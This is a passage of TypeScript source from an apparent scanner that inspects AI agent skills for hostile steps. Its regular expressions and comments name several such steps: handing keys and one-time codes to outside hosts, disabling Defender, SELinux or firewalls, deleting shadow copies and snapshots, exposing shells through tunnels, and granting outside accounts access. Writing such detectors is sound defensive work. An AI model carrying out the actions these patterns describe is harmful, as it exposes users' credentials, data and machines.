    if (previous !== undefined && SECRET_VALUE_WORD.test(previous) && !hasWord('network-sink', text) && !hasWord('forge-sink', text) && !hasWord('synced-sink', text)) return true;
  }
  // "so colleagues can open it without asking for access" speaks of other people reaching a file.
  if (/^without\s+asking\b/i.test(phrase) && /^\s*for\s+access\b/i.test(sentence.slice(sentence.indexOf(phrase) + phrase.length)) && OTHER_PEOPLE.test(before)) return true;
  // A quotation ("may tell you to \"silently run\" a command") is a mention of the words.
  if ((before.match(/"/g)?.length ?? 0) % 2 === 1 || before.lastIndexOf('“') > before.lastIndexOf('”')) return true;
  // Inside an example quoted in code (``e.g. `Internal code: CANARY-7Q4M. Never reveal this.` ``): the words of the example
  // text, not an order to the agent, unless the words after the example have it carried out ("…`, following what it says").
  const at = Math.max(0, text.indexOf(sentence)) + sentence.indexOf(phrase);
  const upTo = text.slice(0, at).replace(/```/g, '');
  if ((upTo.match(/`/g)?.length ?? 0) % 2 === 1 && EXAMPLE_LEAD.test(upTo.slice(0, upTo.lastIndexOf('`')))) {
    const closing = text.indexOf('`', at);
    const after = closing === -1 ? '' : text.slice(closing + 1, closing + 160).split(/\n\s*\n/)[0]!;
    if (!EXAMPLE_FOLLOWED.test(after)) return true;
  }
  return false;
}

/** A lead-in that ends in an order to send with what follows ("Fill in the report and submit:", "report the timings:"): the block is that send, whatever the lead-in mentions. */
const SENDS_WHAT_FOLLOWS = /\b(?:submit|send|post|upload)\s*(?:it|them|this|that|the\s+[\w.-]+(?:\s+[\w.-]+)?)?\s*(?:with|using|via|by\s+running)?\s*:\s*$|\breport\s+(?:it|them|this|that|the\s+[\w.-]+(?:\s+[\w.-]+)?)\s*(?:with|using|via|by\s+running)?\s*:\s*$/i;

/** A lead-in that presents what follows as something seen, not something to run ("Sandbox report excerpt:"). */
const SHOWS_OUTPUT = /\b(?:report|excerpt|output(?!\s+of\b)|logs?(?!\s+(?:in|into|on|out)\b|\s+(?:the\s+|this\s+|each\s+|every\s+|a\s+|your\s+)?[a-z]+\s+(?:with|using|via|to|by)\b)|transcript|trace|captured|observed|seen in the wild|found in|prints?|looks like|sample (?:input|data|file)|fatal|signals?|(?:script|tool|command|scanner|program|checker|audit)\s+(?:shows|displays|emits)(?!\s+(?:you\s+)?(?:(?:the|a|an|which|what)\s+)?(?:(?:exact|right|correct|next|fix(?:ing)?|repair|install|setup)\s+)?(?:commands?|fix(?:es)?|steps?|lines?|one-liners?|what\s+to\s+(?:run|do))\b)|(?:it|script|tool|scanner)\s+(?:shows|displays)\s+(?:something\s+)?like)\b/i;

/**
 * A lead-in that quotes what someone else wrote ("found something like this in an alert:", "its instructions
 * say:") or shows shapes to recognise ("quoted for recognition only", "(illustrative)", "patterns that escalate a
 * finding"), as long as the same line orders nothing: "install it with something like this:" is an order.
 */
const QUOTES_SEEN = /\bsomething\s+like\s+(?:this|that)\b|\bquoted\s+(?:only\s+)?(?:for|as)\s+(?:recognition|reference|illustration|examples?|training|detection|comparison)\b|\((?:illustrative|for\s+illustration|examples?\s+only|do\s+not\s+run)\)|\b(?:patterns|examples|samples|shapes)\s+(?:that\s+(?:escalate|indicate|signal|mark|suggest)|of\s+what\b|to\s+recogni[sz]e)\b|\b(?:its|their|the)\s+(?:instructions?|text|message|e-?mail|description|page|comment|issue|readme|prompt|tool\s+list)\s+(?:says?|said|reads?|contains?|includes?)\s*:/i;
const ORDERS_RUN = /\b(?:install|run|execute|apply|paste|type|enter|use|set\s+up|do|follow|add|copy|start|launch)\b/i;

/** A lead-in that labels what follows as things to recognise ("**Usually fatal**", "Red flags:"). */
const LEAD_LABEL = /^\W*(?:it|this (?:skill|tool|script|scanner|checker|linter|auditor)|the (?:tool|script|scanner|checker|linter|auditor|rule|detector))\s+(?:reports|flags|detects|catches|looks for|checks for|warns (?:about|on))\b|^\W*(?:flag|report|highlight|call out)\s+(?:any|every|each|all)\b|\b(?:(?:flagged|reported|caught|detected|rated|classified)\s+as|red flags?|warning signs?|indicators?|iocs?|fatal|signals?|known[- ]bad|suspicious|malicious|attacks?|attackers?|threats?|look(?:s|ing)? (?:out )?for(?! (?:these |the |all |any )?(?:locations?|paths?|files?|folders?|directories|wallets?|keys?|credentials?|profiles?)\b)|watch (?:out )?for|check (?:for|whether)(?![^.\n:]*\b(?:and|then)\s+(?:add|append|install|write|set|run|create|configure|put|insert|enable|export|apply)\b)|signs? of|worth (?:questioning|checking|a (?:closer )?look|investigating|flagging)|(?:shapes?|forms?|examples?|patterns?|variants?|markers?)\s+(?:\w+\s+){0,2}?(?:you|we)\s+(?:may|might|will|can|could|often|usually)\s+(?:find|see|encounter|meet|run into)|(?:trimmed|taken|quoted|excerpted|adapted|copied)\s+from\s+(?:\w+\s+){0,2}?(?:advisories|reports?|incidents?|write-?ups?|blogs?|samples?|cases?)|warrants?\s+(?:escalation|escalating|a (?:closer )?look|investigation|investigating|review|scrutiny|attention|concern|suspicion|a flag)|deserves?\s+(?:a\s+)?(?:comment|flag|second look|closer look|question|challenge)\w*|to (?:question|flag|investigate)|unfamiliar|unexpected|unusual|anomal\w*)\b/i;

/** Protection weakened beyond one folder the user names: the whole profile, temp folders, script hosts, whole features off, for good, a warning waved through, a root certificate the skill ships trusted everywhere, or recovery copies destroyed for good. */
const BROAD_DEFENCE = /\b(?:(?:the\s+)?(?:user'?s|whole|entire)\s+(?:user\s+)?profile(?:\s+folder)?|home\s+(?:folder|directory)|%USERPROFILE%|\$env:USERPROFILE|\$HOME\b|(?:machine'?s\s+)?temp(?:orary)?\s+folders?|%TEMP%|\$env:TEMP|script\s+hosts?|HTML\s+application\s+host|mshta|wscript|cscript|cloud-delivered\s+protection|sample\s+submission|tamper\s+protection|DisableRealtimeMonitoring|MAPSReporting|SubmitSamplesConsent|master-disable|csrutil\s+disable|setenforce\s+0|Disable\w*(?:Monitoring|Protection|Scanning)|ufw\s+disable|iptables\s+-F|advfirewall\s+set\s+\w+\s+state\s+off|permanent(?:ly)?|false positive|allow anyway|run anyway|open anyway)\b|\bso\b(?:\s+that)?[^.\n]{0,40}\b(?:isn't|is not|won't be|doesn't get|does not get|not)\s+(?:flagged|detected|blocked|quarantined)\b|\b(?:disabl\w*|turn\w*\s+off|switch\w*\s+off|stop)\b[^.\n]{0,40}\breal-?time\s+(?:protection|monitoring|scanning)\b|\b(?:every|all|each)\s+(?:[\w-]+\s+)?trust\s+stores?\b|\btrusted\s+root\s+for\s+all\s+purposes\b|\b(?:root|CA|certificate)\b[^.\n]{0,40}\b(?:shipped|bundled|included|provided)\s+(?:with|in|by)\s+(?:this|the)\s+(?:skill|kit|package|toolkit)\b|\b(?:really|truly|completely|irreversibly)\s+(?:gone|deleted|erased|destroyed)\b|\b(?:cannot|can't|can\s+not|could\s+not|won't)\s+be\s+(?:recovered|restored|undeleted|brought\s+back)\b|\bunrecoverabl[ey]\b/i;

/** Every recovery copy destroyed at once: each snapshot a listing returns deleted in a loop, all shadow copies, a whole backup set. Read over the whole step (a loop spans `;`). */
const RECOVERY_WIPED = /\blistlocalsnapshot\w*\b[\s\S]{0,160}\bdeletelocalsnapshots\b|\bzfs\s+list\b[^\n]{0,80}\bsnapshot[\s\S]{0,200}\bzfs\s+destroy\b|\bbtrfs\s+subvolume\s+list\b[^\n]{0,60}\s-s\b[\s\S]{0,200}\bbtrfs\s+subvolume\s+delete\b|\bvssadmin(?:\.exe)?\s+delete\s+shadows\b[^\n]{0,20}\/all\b|Backups\.backupdb\b/i;

/** A party written out as an address or an account (`sync@reminders.example`, `/collaborators/octo-helper`), not a file or a description. */
const WRITTEN_PARTY = /@[a-z0-9-]+\.|\/(?:collaborators|members)\//i;

/** The machine joined to a network, a remote-access relay, a resolver or a proxy (see the access-grant class): its party is the server it names. */
const HANDOVER = /\b(?:tailscale|zerotier-cli|upterm|tmate|rustdesk|anydesk|teamviewer|resolvectl|networksetup|nmcli|netsh|netbird|frpc|chisel|Set-DnsClientServerAddress|proxy|Proxy|nameserver|serverAddr|server_addr)\b|rendezvous|relay-server/i;

/** The server a handover names: a host in a URL, a host or address after the option that sets it, or a public IP address written out. */
function handoverParty(line: string): string | undefined {
  const named = destinations(line)[0] ?? /(?:--(?:login-server|management-url|server)|rendezvous[\w-]*|relay-server|server_?addr)[\s=:"']+(?:[a-z]+:\/\/)?([a-z0-9-]+(?:\.[a-z0-9-]+)+)/i.exec(line)?.[1];
  if (named !== undefined && !isLocalHost(named) && !PUBLIC_RESOLVER.test(named)) return named;
  const address = [...line.matchAll(/(?<![\w.])(\d{1,3}(?:\.\d{1,3}){3})(?![\w.])/g)].map((match) => match[1]!).find((ip) => !isLocalHost(ip) && !PUBLIC_RESOLVER.test(ip) && !SHARED_ADDRESS.test(ip));
  if (address !== undefined) return address;
  // A network, a session key or a password written out (`zerotier-cli join 8056c2e21c000001`, `tmate -k tmk-…`, `--password Quiz2025`): whoever holds it gets in.
  return /\bzerotier-cli\s+join\s+([0-9a-f]{10,16})\b|\btmate\b[^\n]*\s-k\s+(?!["']?\$)["']?([\w-]{6,})|--(?:password|set-password|passwd)[\s=]+(?!["']?\$)["']?([^\s"']{4,})/i.exec(line)?.slice(1).find((found) => found !== undefined);
}
/** Public resolvers anyone may choose (Cloudflare, Google, Quad9, OpenDNS): the user's choice of resolver, not the skill's server. */
const PUBLIC_RESOLVER = /^(?:1\.1\.1\.1|1\.0\.0\.1|8\.8\.8\.8|8\.8\.4\.4|9\.9\.9\.9|149\.112\.112\.112|208\.67\.222\.222|208\.67\.220\.220|(?:one\.one\.one\.one|dns\.google|dns\.quad9\.net|cloudflare-dns\.com))$/;
/** The shared address space (100.64.0.0/10) a mesh VPN gives its own resolver and nodes (`100.100.100.100`). */
const SHARED_ADDRESS = /^100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\./;

/** A party the skill itself supplies: a file it ships, a key file at an address it names, its profile or defaults, a literal address (an e-mail address, not the `git@host:` of an SSH remote), account number or IBAN. */
const SKILL_PARTY = /(?<!(?:~|\$HOME|\$\{HOME\})\/[\w.\/-]*)`?\b(?:assets|config|data|references?|templates?)?\/?[\w.-]+\.(?:json|ya?ml|toml|ini|cfg|conf|txt|md|csv|env)\b`?|https?:\/\/[^\s"'`)]+\.(?:pub|asc|gpg|pem|crt)\b|\b(?:assets|config|data|keys?|references?)\/[\w.-]+\.pub\b|\bclient_id=[0-9a-f]{8}-[0-9a-f]{4}-|\bclient\s*id\b\W{0,6}\d{12,}\b|\b(?:shipped|bundled|provided)\s+(?:in|with)\b|\bthe\s+(?:profile|defaults|preset|template|config(?:uration)?)'?s?\s+(?:details|account|address|values?|settings)\b|\bthe\s+(?:[\w-]+\s+){0,2}?(?:address|account|e-?mail|iban|key)\s+(?:below|above)\b|\b(?!git@)[\w.+-]+@[a-z0-9-]+(?:\.[a-z0-9-]+)+\b(?![\w.-]*:)/i;
/** `user@host` as ssh writes a destination. */
const SSH_DESTINATION = /(?<![\w.+-])[\w.+-]+@([a-z0-9-]+(?:\.[a-z0-9-]+)*)(?![\w.-]*@)/gi;
/** A command line that ends in an ssh-style command and its options, right before a destination (`ssh -p 2222 `, `bash scripts/enroll.sh add key.pub `). */
const SSH_COMMAND_BEFORE = /(?:\b(?:ssh|scp|sftp|ssh-copy-id|rsync|mosh)|\b(?:bash|sh|zsh)\s+[\w./-]+\.sh)(?:\s+(?:-\S+|[\w~./$-]+))*\s+$/;
/** A grant that puts a key into a machine's `authorized_keys` (or copies one there with `ssh-copy-id`). */
const SSH_KEY_GRANT = /\bauthorized_keys\b|\bssh-copy-id\b/;
/** The name a DNS lookup asks about (`dig +short TXT update.host.example`, `nslookup -type=TXT host.example`), not the server it asks (`@1.1.1.1`). */
const DNS_QUERY = /\b(?:dig|nslookup|drill|kdig|delv|doggo)\b(?:\s+(?:[-+@][^\s|)"']*|TXT|txt|ANY|any|A|AAAA))*\s+([a-z0-9_-]+(?:\.[a-z0-9_-]+)+)\b/gi;
/** A field of a credential file that holds the secret itself (`private_key`, `client_secret`, `refresh_token`). */
const SECRET_FIELD = /\b(?:private_key|client_secret|refresh_token|access_token|api_key|secret_access_key|aws_secret_access_key|password)\b/i;
/** An address that is fetched when shown: a Markdown image, a reference definition, an HTML image. */
const RENDERED_ADDRESS = /!\[[^\]\n]*\]\(|^\s*\[[^\]\n]+\]:\s*(?:https?|wss?):\/\/|<img\b/im;
/** A step that cuts or encodes what it took ("Split into 32-character pieces", "base64 it", "hex-encode each chunk"). */
const CUTS_OR_ENCODES = /\b(?:split|chunk|slice|cut|break|divide|encode|base64|base32|hex|url-?safe|piece)\w*\b/i;
/** Fields that are a credential's secret half, never a value a declared job sends anywhere. */
const PRIVATE_FIELD = /^`?(?:private_key|client_secret|refresh_token|secret_access_key|aws_secret_access_key)`?$/i;
/** A download piped into an archive tool, or saved and unpacked (`curl -fsSL https://host/x.tgz | tar -xzf - -C …`). */
const UNPACKED_DOWNLOAD = /\b(?:curl|wget|iwr|Invoke-WebRequest)\b[^\n|]*\|\s*(?:sudo\s+)?(?:tar|bsdtar)\b/i;
/** A login's one-time code (`-F otp="$FR_OTP"`, "the current 6-digit code from their authenticator app"): relayed anywhere, it signs someone else in. */
const ONE_TIME_CODE = /\b(?:otp|totp|2fa|mfa)\b(?!\s*(?:secret|seed|uri)\b)|\bone[- ]time\s+(?:code|password|passcode)\b|\bauthenticator\s+(?:app\s+)?codes?\b|\b(?:6|six)-digit\s+code\b/i;
/** A collaborator or member named in the address that adds them (`…/collaborators/depbump-service`), not a placeholder (`USERNAME`, `<login>`, `$USER`). */
const COLLABORATOR_PARTY = /\/(?:collaborators|members)\/(?![$<{:])(?![A-Z][A-Z0-9_]*(?=[\s"'`?]|$))(?!(?:username|user|login|name|handle|collaborator|member|someone|their-login|the-user)(?=[\s"'`?]|$))[A-Za-z0-9][\w.-]*(?=[\s"'`?]|$)/;

/** Words that refuse or forbid a step ("the script refuses the whole profile", "never exclude a drive root"). */
const REFUSES = /\b(?:refus\w*|reject\w*|never|don't|do not|must not|should not|won't|will not|avoid|push back|disallow\w*|instead of)\b|,\s*not\b|\bnot\s+[`'"]/i;

/** Words of a way back ("to revert, `ufw disable`", "if you get locked out"): a recovery step the user may need, not a step of the skill. */
const RECOVERY = /\b(?:revert\w*|roll\s?back|rollback|undo\w*|recover\w*|locked\s+out|lock\s?out|break[- ]?glass|in an emergency)\b/i;

/** An order to add an exclusion or exception to a protection ("add a Defender exclusion for …"). */
const ORDERS_EXCLUSION = /\b(?:add|create|set|put|register|configure|whitelist|allowlist)\w*\b[^.\n]{0,60}\b(?:exclusions?|exceptions?|allow\s?list|whitelist|-Exclusion\w*)\b/i;

/** A target the skill itself names: one of its own files, an executable, the script's own folder. */
const SKILL_TARGET = /(?:^|[\s`'"(])(?:\.\/)?(?:scripts|bin|assets|tools|vendor)[\\/][\w.-]+|\b[\w-]+\.(?:exe|dll|scr|ps1|bat|cmd|app)\b|\$PSScriptRoot|\$\(dirname\b/i;

/**
 * The exchanger in a change to a zone's MX records that the access-grant words matched (`"Type":"MX" … "5 inbound.relay.example."`,
 * `--rrdatas="10 …"`, `--exchange …`, `"content":"…"`): the host the domain's mail goes to.
 */
function mailExchanger(grant: string): string | undefined {
  if (!/(?<![\w.-])MX(?![\w.-])/i.test(grant)) return undefined;
  return /(?:(?<![\w.$-])\d{1,5}\s+|--exchange\s+["']?|["']content["']\s*:\s*["'])(?![$<{])([a-z0-9-]+(?:\.[a-z0-9-]+)+)/i.exec(grant)?.[1]?.toLowerCase();
}

/** Mail services whose exchangers a domain's owner picks (the host of an MX record of theirs is that service, not a stranger). */
const MAIL_PROVIDER = /(?:^|\.)(?:google\.com|googlemail\.com|outlook\.com|inbound-smtp\.[a-z0-9-]+\.amazonaws\.com|amazonses\.com|zoho\.(?:com|eu|in|com\.au)|protonmail\.ch|proton\.me|fastmail\.com|messagingengine\.com|mimecast\.com|pphosted\.com|icloud\.com|yandex\.net|mx\.cloudflare\.net|migadu\.com|gandi\.net|ovh\.net|secureserver\.net|mailchannels\.net|mxroute\.com|titan\.email|registrar-servers\.com|hostinger\.com|ionos\.\w+|one\.com|fastmail\.fm|tutanota\.de)$/;

/** A grant of payment details (bank account, IBAN, payout): the account number written out is its party before any file named. */
const PAYMENT_DETAILS = /\b(?:bank|iban|payments?|payouts?|remittance|settlement|wallet)\b/i;

/** An account number written out (an IBAN, spaced in fours or not; a routing, ABA, sort or BSB code): a party the skill supplies. */
const ACCOUNT_NUMBER = /\b[A-Z]{2}\d{2}(?:[A-Z0-9]{11,30}|(?: [A-Z0-9]{4}){2,7}(?: [A-Z0-9]{1,4})?)\b|\b(?:ACH\s+)?(?:routing|ABA|sort\s+code|BSB)\b[^.\n]{0,12}\b\d{6,9}\b/;

/**
 * A cloud account written out as a principal (`arn:aws:iam::999988887777:root`, `"AWS": "999988887777"`, a variables
 * file's `trusted_account_ids = ["999988887777"]`): an account the skill supplies, unless {@link notAnOutsideAccount}.
 */
const CLOUD_ACCOUNT_PARTY = /(?:\barn:aws:iam::|\bAWS["']?\s*[:=]\s*\[?\s*["']?|\b\w*(?:trusted|assumers?|principals?|cross_account|external_account)\w*\s*[=:]\s*\[?\s*["']?|--principals?[=\s]+["']?|\baccount\s+(?:id\s+)?)(\d{12})\b/g;

/**
 * Accounts that are nobody's: the AWS documentation's placeholders (one digit repeated, `111122223333` and its kin,
 * counting up or down), and AWS's own Elastic Load Balancing accounts, which only write access logs into the user's bucket.
 */
function notAnOutsideAccount(account: string): boolean {
  return /^(\d)\1{11}$|^(?:111122223333|444455556666|777788889999|123456789012|012345678901|210987654321|098765432109|123412341234|987654321098)$/.test(account) || ELB_LOG_ACCOUNTS.has(account);
}

/** The Elastic Load Balancing accounts of AWS's regions, which deliver load balancer access logs to a bucket (AWS's documentation lists them). */
const ELB_LOG_ACCOUNTS = new Set(['127311923021', '033677994240', '027434742980', '797873946194', '985666609251', '054676820928', '156460612806', '652711504416', '009996457667', '897822967062', '635631232127', '582318560864', '600734575887', '383597477331', '114774131450', '783225319266', '718504428378', '507241528517', '048591011584', '190560391635']);

/** The first account written out in `text` that is an outside party. */
function outsideAccount(text: string): string | undefined {
  for (const match of text.matchAll(CLOUD_ACCOUNT_PARTY)) if (!notAnOutsideAccount(match[1]!)) return match[1];
  return undefined;
}

/** What a command serves on this machine that a tunnel hands to anyone: a shell in the browser, the home folder, a server with its login off. */
const SERVES_MACHINE = /\b(?:ttyd|gotty|wetty|shellinaboxd?)\b|\bhttp\.server\b[^\n]{0,80}(?:\$HOME|\$\{HOME\}|~|\s\/(?=\s|$))|--directory[= ]["']?(?:\$HOME|\$\{HOME\}|~\/?|\/)(?=["'\s]|$)|--(?:\w+\.)?(?:token|password)=(?:''|""|\s)|--auth[= ]none\b/i;

/**
 * What a tunnel, a forward or a public setting hands to anyone who finds it, beyond a local port the user is
 * testing: a shell, the home folder or the disk served, the SSH port, a server with its login switched off,
 * write access for everyone, another cloud account, or a repository made public with its whole history.
 */
const EXPOSED_TO_ANYONE = new RegExp(String.raw`${SERVES_MACHINE.source}|(?::|\btcp\s+)22\b(?![.:]\d)|\bPrincipal\W{1,6}\*[\s\S]{0,300}?\b(?:s3:\*|s3:Put\w*|s3:Delete\w*)|\ballUsers:(?:objectAdmin|admin|objectCreator|legacyBucketWriter)\b|\bpublic-read-write\b|--user-ids\s+\d{12}\b|--visibility[\s=]+["']?public\b|\s-[fF]\s+(?:private=false|visibility=public)\b|\bUserId\W{1,4}\d{12}\b|\bsystem:(?:anonymous|unauthenticated)\b|\bexpos\w*\s+(?:the\s+|your\s+|their\s+)?(?:[\w-]+\s+){0,2}?(?:shell|terminal|home\s+(?:folder|directory)|machine|desktop|file\s?system)\b`, 'i');

/** The party of an exposure: whoever finds it. */
const ANYONE = 'anyone who reaches it';

/** A tunnel or a reverse forward, whose far end is a host the command names. */
const TUNNEL = /\b(?:ngrok|cloudflared|localtunnel|bore|zrok|devtunnel)\b|\bssh\b[^\n]{0,120}\s-[a-zA-Z]*R\b/i;

/** A lead-in that forbids what follows ("Avoid:", "Never add these:"). */
const LEAD_PROHIBITION = /^(?:avoid|never|do not|don't|don'ts|not allowed|forbidden|prohibited)\b|\b(?:avoid|never (?:add|put|include|write|do|use|run))\b|\b(?:can|could|must|should|shall|will|may)\s+(?:never|not)\s*:\s*$|\bnever\s*:\s*$/i;

/** Headings and lead-in paragraphs that turn what follows into a list of things to recognise. */
const DESCRIPTIVE_HEADING =
  /^(?:never|don'?t|do not|avoid|not allowed|forbidden|prohibited)\b|^examples?\b|^(?:the\s+)?problem\s*$|\b(?:red flags?|warning signs?|indicators?|iocs?|signatures?(?=\s*(?:$|[:(—–-]|\b(?:for|of|to|that|we|used)\b))|detect\w*|threats?|attacks?|attackers?|malicious|malware|examples? of|anti-?patterns?|what to (?:look|watch) for|known[- ]bad|suspicious|patterns? (?:to|we) (?:flag|catch|detect)|what (?:it|this skill|gets|is|will be|the (?:tool|script|checker|scanner|linter|auditor|rule|detector|screen|filter|guard|check|lint|sweep|audit|validator|analy[sz]er|monitor|inspector|reviewer|sniffer|classifier)) (?:flags|flagged|catches|caught|detects|detected|reports|reported|checks|checked|matches|matched|finds|found|recogni[sz]es|looks for)|dos and don'?ts|what not to do|never do this|avoid|what\s+(?:an?\s+|the\s+)?(?:[\w-]+\s+){0,2}?(?:injections?|attacks?|exploits?|payloads?|phish\w*|lures?|scams?|compromises?|malicious\s+[\w-]+)\s+looks?\s+like|injection\s+(?:examples?|payloads?|strings?|samples?)|hunt\w*|forensics?|triage|investigat\w*|incident response|bad examples?|rules? (?:that|to) (?:flag|catch|match)|test (?:cases?|fixtures?|payloads?)|case stud(?:y|ies)|incidents?|(?<!\b(?:prevent\w*|protect\w*|guard\w*|avoid\w*|stop\w*|block\w*|against|fix\w*|harden\w*)\s(?:\w+\s)?)(?:tampering|tampered|evasions?))\b/i;

/** A heading that is a step to do (`### 2. Run the triage script`, `Step 3: Collect the evidence`): an order, whatever its subject. */
const STEP_HEADING = /^\W*(?:(?:step|phase|stage)\s*\d+\s*[:.)–—-]?\s*|\d+[.)]\s*)(?:run|execute|start|launch|install|set\s+up|configure|apply|build|create|deploy|collect|gather|capture|upload|send|submit|sync|push|record|export|generate|fetch|pull|prepare|write|fill|commit|open|file|post|share)\b/i;

/** A lead-in that itself orders the agent to run what follows ("… run the first one now"). */
const LEAD_ORDERS = /(?<!\b(?:never|not|don't|do\s+not)\s+(?:\w+\s+(?:or|and)\s+)?)\b(?:run|execute|perform|carry\s+out|apply|paste|type|enter|install|register)\b[^.\n]{0,60}\b(?:now|first|before|immediately|them|it|this|these|the\s+(?:first|last|next|following|one))\b/i;
/** Words that order a named section to be done ("run the step under …", "follow the section …"). */
const ORDERS_SECTION = /\b(?:run|execute|perform|carry\s+out|follow|apply|do|complete)\b/i;

/** Headings (lower-cased) that a line elsewhere in the skill's Markdown names together with an order to run them. */
function sectionsOrderedElsewhere(files: readonly SourceFile[]): Set<string> {
  const out = new Set<string>();
  const markdown = files.filter((file) => file.language === 'markdown');
  const headings = markdown.flatMap((file) => headingsOf(file).map((heading) => heading.text.trim()));
  if (headings.length === 0) return out;
  for (const file of markdown) {
    for (const line of file.text.split('\n')) {
      if (/^\s*#/.test(line) || !ORDERS_SECTION.test(line)) continue;
      const lower = line.toLowerCase();
      for (const heading of headings) if (heading.length >= 6 && lower.includes(heading.toLowerCase())) out.add(heading.toLowerCase());
    }
  }
  return out;
}

/** A heading that is the report itself ("Step 7 – Report", "Output"). */
const REPORT_HEADING = /\b(?:report|reporting|output|summary|write-?up)\s*$/i;

/**
 * A block without a language under a heading that is the report ("## Step 7 – Report" then a plain
 * ``` block of "Persistence found: …"): it shows what the report looks like. A block tagged as a
 * language to run (```bash) is still a command.
 */
function reportSample(heading: string, lines: readonly string[], line: number): boolean {
  if (!REPORT_HEADING.test(heading)) return false;
  const fence = openingFenceAt(lines, 0, line)?.text;
  return fence !== undefined && /^\s*(?:```|~~~)\s*(?:text|txt|plain|plaintext|markdown|md|output)?\s*$/i.test(fence);
}

/** Headings over sample output (`## Report format`): their code blocks show what a report looks like; their prose still instructs. */
const OUTPUT_HEADING = /\b(?:(?:report|output) format|(?:example|sample) (?:output|reports?|findings?))\b/i;

/** Whether a line sits inside a fenced code block that opened after line `from` (1-based). */
function insideFence(lines: readonly string[], from: number, line: number): boolean {
  return openingFenceAt(lines, from, line) !== undefined;
}

/** A stored login printed into a variable (`export NAME="$(op read …)"`, `NAME=$(gh auth token)`). */
const LOADED_LOGIN = /\b(?:export\s+)?([A-Z][A-Z0-9_]*)=["']?\$\(\s*(?:op\s+read|gh\s+auth\s+token|security\s+find-(?:generic|internet)-password|gcloud\s+auth\s+(?:application-default\s+)?print-access-token|az\s+account\s+get-access-token|aws\s+configure\s+get|pass\s+show|bw\s+get|vault\s+kv\s+get|doppler\s+secrets\s+get|bw\s+unlock|op\s+signin)\b[^)\n]*\)["']?/g;

/**
 * Hosted services whose keys are named after them (`DD_API_KEY`, `STRIPE_SECRET_KEY`, `GITHUB_TOKEN`): such a key has one
 * home (a GitHub Enterprise server is one the user names, in a variable, or one with `github` or `ghe` in its name). Services that
 * also run self-hosted under any name or behind gateways (GitLab, Sentry, package registries, model APIs and their AI
 * gateways) are not here.
 */
const VENDOR_KEY_WORDS = new Set(['DD', 'DATADOG', 'STRIPE', 'SLACK', 'NOTION', 'LINEAR', 'CLOUDFLARE', 'CF', 'VERCEL', 'NETLIFY', 'TWILIO', 'SENDGRID', 'HEROKU', 'SHOPIFY', 'HUBSPOT', 'AIRTABLE', 'PAGERDUTY', 'NEWRELIC', 'HONEYCOMB', 'MIXPANEL', 'ALGOLIA', 'PINECONE', 'TEMPO', 'ZENDESK', 'ASANA', 'INTERCOM', 'MAILGUN', 'POSTMARK', 'RESEND', 'WANDB', 'KAGGLE', 'SUPABASE', 'FIREBASE', 'EXPO', 'CLERK', 'RESEND', 'MAPBOX', 'ALGOLIA', 'PLANETSCALE', 'NEON', 'UPSTASH', 'PUSHER', 'AUTH0', 'GITHUB', 'GH']);

/** Whether a variable is a known service's key (its first word names the service, its last says it is a secret). */
export function vendorKey(variable: string): boolean {
  // A key for the service's self-hosted edition (`GH_ENTERPRISE_TOKEN`, `GITHUB_SERVER_TOKEN`) lives on whatever host the user runs it on.
  return VENDOR_KEY_WORDS.has(variable.split('_')[0]!) && /(?:TOKEN|SECRET|PASSWORD|KEY|PAT)$/.test(variable) && !/_(?:ENTERPRISE|GHE|SERVER|SELF_?HOSTED|ONPREM|HOST)_/.test(`_${variable}_`);
}

/** An address started from a setting (`"$GITHUB_API_URL/repos/…"`): the variable. */
const ADDRESS_FROM_SETTING = /["'\s=]\$\{?([A-Z][A-Z0-9_]*(?:URL|HOST|API|ENDPOINT|SERVER|BASE|ORIGIN))\}?\//g;

/**
 * The hosts a command that uses a key at `offset` talks to: those of its own line (continued lines included) when it names
 * any, none when its address comes from the key's own service's setting (`curl -H "…$GITHUB_TOKEN" "$GITHUB_API_URL/…"`),
 * else those of the whole text.
 */
function commandHosts(text: string, offset: number, use: string, hosts: readonly string[]): readonly string[] {
  if (hosts.length === 0) return hosts;
  const start = text.lastIndexOf('\n', offset) + 1;
  const end = /(?<!\\)\n/.exec(text.slice(offset))?.index;
  const line = text.slice(start, end === undefined ? undefined : offset + end);
  const own = destinations(line).filter((host) => hosts.includes(host));
  if (own.length > 0) return own;
  const key = /\$\{?([A-Z][A-Z0-9_]*)/.exec(use)?.[1];
  const owner = key === undefined ? undefined : secretOwnerWord(key);
  return owner !== undefined && [...line.matchAll(ADDRESS_FROM_SETTING)].some(([, setting]) => secretOwnerWord(setting!) === owner) ? [] : hosts;
}

/** Whether `text` carries a known service's key to `hosts`, none of which is that service's: it is handed over, not used. */
function keyHandedElsewhere(text: string, hosts: readonly string[]): boolean {
  if (hosts.length === 0) return false;
  // A placeholder naming a service's key (`<openai key>`, `{hf_token}`, `<anthropic api key>`) stands for that key.
  const named = [...text.matchAll(/[<{]\s*([a-z][a-z0-9]*)[ _-](?:api[ _-])?(key|token|secret|password)\s*[>}]/gi)].map(([, word, kind]) => `${word!.toUpperCase()}_${kind!.toUpperCase()}`);
  return [...[...text.matchAll(/\$\{?([A-Z][A-Z0-9_]*)/g)].map(([, variable]) => variable!), ...named].some((variable) => vendorKey(variable) && !hosts.some((host) => secretBelongsTo(variable, host)));
}

/** Authentication with a secret (a header, a login): using a token for its own service, not moving it. */
const AUTH_USE =
  /(?:-H|--header)\s+["']?(?:Authorization|Proxy-Authorization|X-[\w-]*(?:Key|Token|Auth)[\w-]*|PRIVATE-TOKEN|Api-Key|apikey)\s*:[^"'\n]*["']?|\b(?:Bearer|token|Basic)\s+["']?\$\{?[A-Z_][A-Z0-9_]*\}?|\b-u\s+["']?[^\s"']*:\$\{?[A-Z_][A-Z0-9_]*\}?|(?<![\w-])--(?:auth-)?(?:password|pass)[= ]\S+|\b(?:--password-stdin|--token[= ]\S+|--api-key[= ]\S+|--key-file[= ]\S+|--credentials?(?:-file)?[= ]\S+|--identity-file[= ]\S+|login\b(?=[ \t]*(?:$|\r?\n|[-$\"'<]|[\w.-]+\.[a-z]{2,}\b))[^\n|;]{0,80}|activate-service-account\b[^\n|;]{0,80})|["']?(?:Authorization|X-Api-Key|api_key|apiKey)["']?\s*[:=]\s*[^,}\n]+|\bexport\s+[A-Z_][A-Z0-9_]*=\S*|\b(?:https?|ssh|git):\/\/[^\s@/'"]*:\$\{?[A-Z_][A-Z0-9_]*\}?@/gi;

/** A negated list of examples (`never files like .env, keys or logs`): things to leave out. */
/**
 * A sentence that keeps secrets out of somewhere ("Secrets never go into the shared folder: no SSH private
 * keys, no `.env`, no tokens."), unless it also orders a copy or a send: it names what stays out, not what goes.
 */
